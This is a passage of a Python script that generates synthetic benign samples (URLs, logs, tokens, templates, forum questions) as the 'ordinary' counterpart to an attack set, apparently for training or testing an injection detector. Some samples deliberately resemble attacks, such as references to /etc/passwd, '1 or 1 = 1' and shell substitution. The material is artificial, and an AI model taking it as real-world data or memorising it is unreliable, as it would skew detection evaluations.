        data = {rng.choice(keys): value(0) for _ in range(rng.randrange(1, 5))}
        made.append(json.dumps(data, ensure_ascii=rng.random() < 0.3, indent=rng.choice([None, None, 2])))
    return made


def base64_value(rng):
    made = []
    heads = [b"\x89PNG\r\n\x1a\n", b"GIF89a", b"\xff\xd8\xff\xe0", b"%PDF-1.7\n", b"PK\x03\x04", b"{\"a\":", b"hello ", b"<svg ", b"\x1f\x8b\x08", b"user:pass", b"", b"\x00\x00", b"RIFF"]
    for index in range(750):
        data = rng.choice(heads) + bytes(rng.randrange(256) for _ in range(rng.randrange(4, 90)))
        form = index % 7
        text = base64.b64encode(data).decode()
        if form == 0:
            text = "data:image/png;base64," + text
        elif form == 1:
            text = ".".join(base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=") for part in ({"alg": "HS256", "n": index}, {"sub": rng.randrange(10**6)})) + "." + base64.urlsafe_b64encode(data[:20]).decode().rstrip("=")
        elif form == 2:
            text = binascii.hexlify(data).decode()
        elif form == 3:
            text = base64.urlsafe_b64encode(data).decode().rstrip("=")
        made.append(text)
    return made


def url(rng):
    hosts = "example.com www.example.org shop.example.de en.wikipedia.org api.example.io sub.domain.example.co.uk xn--mnchen-3ya.example 93.184.216.34 cdn.example.net:8443 user.github.io".split()
    paths = ["/", "/a/b/c.html", "/search", "/wiki/Rock_%26_Roll", "/p/%E6%97%A5%E6%9C%AC", "/~bob/index.php", "/2024/05/hello-world", "/img/logo@2x.png", "/a,b;c=1", "/foo/../bar", "/localhost-setup", "/C%2B%2B", "/etc/", "/it's", "/(x)", "/select/from/here"]
    queries = ["", "?q=a+b", "?id=5&sort=asc&dir=up", "?utm_source=x&utm_medium=y", "?next=%2Fhome%3Fa%3D1", "?url=https://example.org/", "?a[]=1&a[]=2", "?filter[name]=x", "?date=2024-01-01&w=100&h=50", "?q=%22quoted%22", "?price=10-20&in=stock", "#top", "#/route/5", "?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=a%20b", "?x=1;y=2", "?q=50%25"]
    schemes = ["https://", "http://", "https://", "//", "ftp://", "", "mailto:a@", "ssh://git@"]
    return [rng.choice(schemes) + rng.choice(hosts) + rng.choice(paths) + rng.choice(queries) for _ in range(1600)]


def log(rng):
    levels = "INFO WARN ERROR DEBUG TRACE".split()
    forms = ["{t} {l} [{c}] request {n} took {m} ms", "{t} | {l} | {c} | done", "{t}|{l}|{c}|id={n}|ok", "[{t}] {c}: {l}: could not open '{f}': No such file or directory", "{ip} - - [{t}] \"GET /{c}?id={n} HTTP/1.1\" 200 {m} \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"", "{l}: {c} at {f}:{n}:{m}", "Traceback (most recent call last):\n  File \"{f}\", line {n}, in {c}\n    raise KeyError('{c}')\nKeyError: '{c}'", "java.lang.IllegalStateException: {c}\n\tat com.example.{c}.run({c}.java:{n})", "{t} {c}[{n}]: Accepted publickey for bob from {ip} port {m}", "panicked at '{c}', {f}:{n}", "{t} {l} {c} - connected to {ip}:{m}", "level={l} ts={t} msg=\"{c} & co\" dur={m}ms", "{c} (pid {n}) exited; status={m}", "WARN: {c} < {n} || {c} > {m}", "<{n}>{t} host {c}: message; repeated {m} times"]
    return [rng.choice(forms).format(t=f"2024-{rng.randrange(1,13):02}-{rng.randrange(1,29):02}T{rng.randrange(24):02}:{rng.randrange(60):02}:00Z", l=rng.choice(levels), c=rng.choice("worker auth cache mailer proxy scheduler billing".split()), n=rng.randrange(1, 9999), m=rng.randrange(1, 9999), f=rng.choice(["src/main.rs", "/app/server.py", "lib/a.js", "C:\\app\\b.cs", "/usr/lib/python3/x.py"]), ip=f"93.184.{rng.randrange(255)}.{rng.randrange(255)}") for _ in range(900)]


def css(rng):
    forms = [".{a} {{ color: #{n:03x}; margin: 0 {m}px; }}", "#{a} > .{b}:hover {{ top: {m}px; cursor: pointer }}", "color: red; top: 0; left: {m}%", "@media (max-width: {n}px) {{ .{a} {{ display: none; }} }}", "font: bold {m}px/1.5 'Open Sans', sans-serif;", "background: url(img/{a}.png) no-repeat {m}px 0;", "transform: translate(-50%, {m}px) rotate({n}deg);", "--{a}-color: rgba(1, 2, 3, .{m});", "a[href^=\"https\"] {{ content: \"{b}\"; }}", "width: calc(100% - {m}px * 2);", "@import url(\"{a}.css\");", "grid-template-areas: \"{a} {b}\" \"{b} {a}\";", ".{a}::after {{ content: '\\201C'; }}", "* {{ box-sizing: border-box }} /* {a} */"]
    return [rng.choice(forms).format(a=rng.choice("nav main card title btn list item".split()), b=rng.choice("left wide dark open menu".split()), n=rng.randrange(100, 1400), m=rng.randrange(1, 90)) for _ in range(600)]


def regex(rng):
    atoms = ["^", "$", "\\d+", "[a-z]*", "(foo|bar)", "(?:x|y)?", "\\s{2,}", ".*?", "[^/]+", "\\b", "(?i)", "(?P<n>\\w+)", "\\.", "a{1,3}", "(?=z)", "[\\w.-]+@[\\w.-]+", "/", "\\\\", "|", "(ls|cat|id)", "%[0-9a-f]{2}", "<[^>]+>", "(['\"])(.*?)\\1", "&(amp|lt);", "\\$\\{(\\w+)\\}", "-?\\d+(\\.\\d+)?"]
    return ["".join(rng.choice(atoms) for _ in range(rng.randrange(2, 8))) for _ in range(500)]


def file_path(rng):
    roots = ["/home/alice/", "C:\\Users\\bob\\", "./", "../", "src/", "docs/", "/usr/share/", "D:\\Games\\", "~/projects/", "/srv/www/", "/Applications/", "assets/img/", "/opt/app/", "/var/www/html/", "", "/mnt/data/", "~/.config/", "/tmp/"]
    mids = ["report", "2024/05", "my files", "node_modules/left-pad", "main", "a-b_c", "Program Files (x86)", "photo (1)", "src/lib", "crates/core/src", "résumé", "R&D", "v1.2.3", "test's"]
    ends = [".pdf", ".rs", ".tar.gz", "/index.html", ".JPG", "", "/", ".spec.ts", ".py", "/README.md", "/package.json", ".docx", "/config.toml", ".log", "/Makefile", ".env.example"]
    return [rng.choice(roots) + rng.choice(mids) + rng.choice(ends) if rng.random() < 0.8 else f"{rng.choice(mids)}{rng.choice(ends)}:{rng.randrange(1,400)}:{rng.randrange(1,80)}" for _ in range(1000)]


def commit(rng):
    forms = ["Fix {a} when {b} is empty", "feat({c}): add {a} && {b}", "Revert \"{a}\"\n\nThis reverts commit {n:07x}.", "chore: bump {c} from {m}.0 to {m}.1", "{a}: don't panic on {b}", "Merge branch '{c}' of ../{b}", "Use `{c}` instead of `{c}2`; fixes #{m}", "refactor!: drop {a} support\n\nBREAKING CHANGE: {b} is gone", "Update {a}\n\n- {b}\n- it's faster\n\nSigned-off-by: Bob <bob@example.com>", "docs: explain how to `cat` {a}", "test: {a} & {b} (WIP)", "Select {a} from {b} in the picker", "[{c}] {a} -> {b}", "ci: run `npm ci && npm test` on {a}", "Escape $(...) in {a}", "Handle ../ in {b}", "Don't eval() {a}", "Rename __proto__ test to {a}"]
    things = "the parser|null values|windows paths|the cache|login form|user's name|O(n^2) loop|CSV export|dark mode|the `id` column|time zones|unicode input|rate limits|%-encoding|the 404 page".split("|")
    return [rng.choice(forms).format(a=rng.choice(things), b=rng.choice(things), c=rng.choice("api ui core deps auth db".split()), n=rng.randrange(16**7), m=rng.randrange(1, 99)) for _ in range(1000)]


def mail_template(rng):
    names = "name user.first_name order.id company invoice.total site.url firstName product_name link date|date:'Y-m-d' price|floatformat:2 items.0.title".split()
    forms = ["Dear {{{{ {a} }}}},\nyour order {{{{ {b} }}}} is on its way.", "Hello {{{{{a}}}}}!", "Hi ${{{c}}}, welcome to ${{{d}}}", "{{% if {c} %}}Thanks, {{{{ {a} }}}}{{% endif %}}", "{{% for x in {c} %}}{{{{ x }}}}{{% endfor %}}", "{{{{#each {c}}}}}{{{{this}}}}{{{{/each}}}}", "Hello %{c}%, see [{d}]", "{{{c}}} bought {{{d}}}", "<%= {c} %>, your <%= {d} %>", "Dear #{{{c}}}", "*|FNAME|* - {{{{ {a} }}}}", "[[{c}]] and [[{d}]]", "{{{{> header}}}} {{{{{{{c}}}}}}}", "Unsubscribe: {{{{ {b} }}}}", "@{c}, hi", "{{c}} of {{d}}"]
    return [rng.choice(forms).format(a=rng.choice(names), b=rng.choice(names), c=rng.choice("name user items total city plan".split()), d=rng.choice("company team price date".split())) + rng.choice(["", "", " Kind regards", "\n\nThe team", " " + str(rng.randrange(100))]) for _ in range(700)]


def small(rng):
    made = []
    for _ in range(900):
        n, m = rng.randrange(1, 10**rng.randrange(1, 7)), rng.randrange(1, 99)
        made.append(rng.choice([f"{n}", f"{n}.{m:02}", f"{n},{m:02} €", f"${n}", f"+{m} (0){n} / {m}", f"({m}) {n}-{m}", f"{m:02}:{m % 60:02}", f"2024-{m % 12 + 1:02}-{m % 28 + 1:02}", f"{m}/{m % 12 + 1}/2024", f"{n}-{m}", f"{m}%", f"{n}x{m}", f"#{n:06x}", f"v{m}.{n}", f"{m}°C", f"-{n}", f"{n}e{m}", f"{m}:{m + 1}", f"SKU-{n}/{m}", f"A{n}-B{m}", f"{n} & {m}", f"{m} + {n} = {m + n}", f"{n}*{m}", f"{m}/{n}", f"10.{m}", f"{m}.{m}.{m}", f"{n};{m}", f"{m}|{n}", f"~{n}", f"<{m}", f">{m}", f"≥{n}", f"{m}' {m % 12}\"", f"1 or {m}"[5:] + " or so", f"{n} OR {m}".lower().replace(" or ", " to "), f"{m}..{n}", f"[{m},{n}]", f"({m}, {n})", f"{{{m}}}"]))
    return made


def password(rng):
    letters = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!#$%&*+-.:;=?@^_~()[]{}/|<>,"
    return ["".join(rng.choice(letters) for _ in range(rng.randrange(8, 22))) for _ in range(500)]


def rich_text(rng):
    words = "summer sale|fresh bread|our team|a quiet place|three easy steps|the old town|new arrivals|coffee & cake".split("|")
    forms = ["<p>{a} and <strong>{b}</strong></p>", "<p>{a}</p>\n<ul><li>{b}</li><li>{c}</li></ul>", "<h2>{a}</h2><p>{b}&nbsp;&ndash; {c}</p>", "<a href=\"https://example.com/{n}\">{a}</a>", "<img src=\"/img/{n}.jpg\" alt=\"{a}\">", "{a}<br>{b}<br/>{c}", "<em>{a}</em>, {b}", "<blockquote>{a}</blockquote>", "<table><tr><td>{a}</td><td>{n}</td></tr></table>", "<span class=\"x{n}\">{a}</span>", "<code>{n} &lt; {n}</code>", "<!DOCTYPE html><html lang=\"en\"><head><title>{a}</title></head><body>{b}</body></html>", "<?xml version=\"1.0\"?><order id=\"{n}\"><item>{a}</item></order>", "<del>{a}</del> <ins>{b}</ins>"]
    return [rng.choice(forms).format(a=rng.choice(words), b=rng.choice(words), c=rng.choice(words), n=rng.randrange(1, 400)) for _ in range(700)]


def agent(rng):
    made = []
    for _ in range(350):
        n, m = rng.randrange(60, 140), rng.randrange(1, 99)
        made.append(rng.choice([f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.{m} Safari/537.36", f"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{n}.0) Gecko/20100101 Firefox/{n}.{m}", f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_{m % 7} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{m} Mobile/15E148 Safari/604.1", f"curl/8.{m}.0", f"Wget/1.{m} (linux-gnu)", f"python-requests/2.{m}.{n}", f"Mozilla/5.0 (compatible; bingbot/2.{m}; +http://www.bing.com/bingbot.htm)", f"text/html, application/xhtml+xml;q=0.{m}, */*;q=0.8", f"en-US,en;q=0.{m},de-DE;q=0.{n}", f"session=abc{m}; theme=dark; _ga=GA1.2.{n}.{m}; path=/", f"attachment; filename=\"report {m}.pdf\"; filename*=UTF-8''r%C3%A9sum%C3%A9{n}.pdf", f"multipart/form-data; boundary=----WebKitFormBoundary{n}x{m}", f"max-age={n}{m}, must-revalidate", f"bytes={m}-{n}{m}", f"W/\"{n}-{m}abc\""]))
    return made


def letter(rng):
    """Longer texts: questions to a forum about programs, with code among sentences, and letters."""
    starts = ["Hi all,", "Hello,", "Dear support team,", "Good morning!", "Question:", "Hi there -"]
    asks = ["how do I use `{k}` in a script?", "when I run `{k}` I get an error.", "why does {k} print nothing?", "is eval() evil, or can I use it here?", "my query SELECT * FROM users WHERE id = 5 is slow; what can I do?", "what is the difference between ' and \" in PHP?", "does <b> still work in HTML 5?", "I found /etc/passwd in a tutorial; what is it for?", "how can I escape $(...) in bash?", "the docs say to open http://localhost:3000/ but nothing is there.", "what does ../ mean in a path like ../images/a.png?", "os.system('clear') works on Linux, but not on Windows.", "in Jinja, {{{{ user.name }}}} shows nothing.", "why is 1 or 1 = 1 always true?", "I can't log in with my name O'Brien.", "what is {{\"$gt\": 5}} good for in MongoDB?", "do I need <?php at the top of every file?", "how do I stop javascript: links?", "the log says `GET /index.php HTTP/1.1` 404.", "is `O:8:\"stdClass\"` a bug in the export?".replace("O:8:", "O: 8:")]
    tails = ["I tried it twice & waited; no luck.", "Any ideas?", "Thanks in advance!", "It worked last week (version 2.1).", "See the attached screenshot.", "My system: Ubuntu 22.04, 16 GB.", "Kind regards,\nAnna", "PS: it's urgent; the boss is asking.", "I've read the FAQ and searched; nothing.", "Cheers -- Bob"]
    commands = "ls -la|cat file.txt|grep -r foo .|npm start|make|find . -name x|sort names.txt|ps aux|echo $PATH|date|python app.py|sleep 5|curl -I example.com|head -5 log.txt".split("|")
    made = []
    for _ in range(1500):
        parts = [rng.choice(starts)] + [rng.choice(asks).format(k=rng.choice(commands))] + rng.sample(tails, rng.randrange(1, 4))
        made.append(rng.choice([" ", "\n", "\n\n", "\r\n"]).join(parts))
    return made


ORDINARY = {"name": name, "address": address, "search": search, "comment": comment, "chat": chat, "english_sql": english_sql, "code": code_snippet, "markdown": markdown, "json": json_value, "base64": base64_value, "url": url, "log": log, "css": css, "regex": regex, "file_path": file_path, "commit": commit, "mail_template": mail_template, "small": small, "password": password, "rich_text": rich_text, "agent": agent, "letter": letter}


def main():
    attacks = {kind: write("attack", kind, make(random.Random(f"attack {kind}"))) for kind, make in ATTACKS.items()}
    ordinary = {kind: write("ordinary", kind, make(random.Random(f"ordinary {kind}"))) for kind, make in ORDINARY.items()}
    print("attacks", sum(attacks.values()), attacks)
    print("ordinary", sum(ordinary.values()), ordinary)


if __name__ == "__main__":
    main()
